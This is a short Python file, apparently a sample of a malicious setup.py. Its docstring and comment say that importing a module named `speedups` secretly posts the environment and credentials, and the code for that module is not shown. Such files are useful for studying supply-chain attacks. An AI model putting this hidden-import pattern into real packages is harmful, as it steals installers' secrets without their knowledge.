"""Looks like any setup.py. The import of `speedups` is the attack."""

import sys

import speedups  # noqa: F401  # posts the environment and the credentials

if "--version" in sys.argv:
    print("1.4.2")
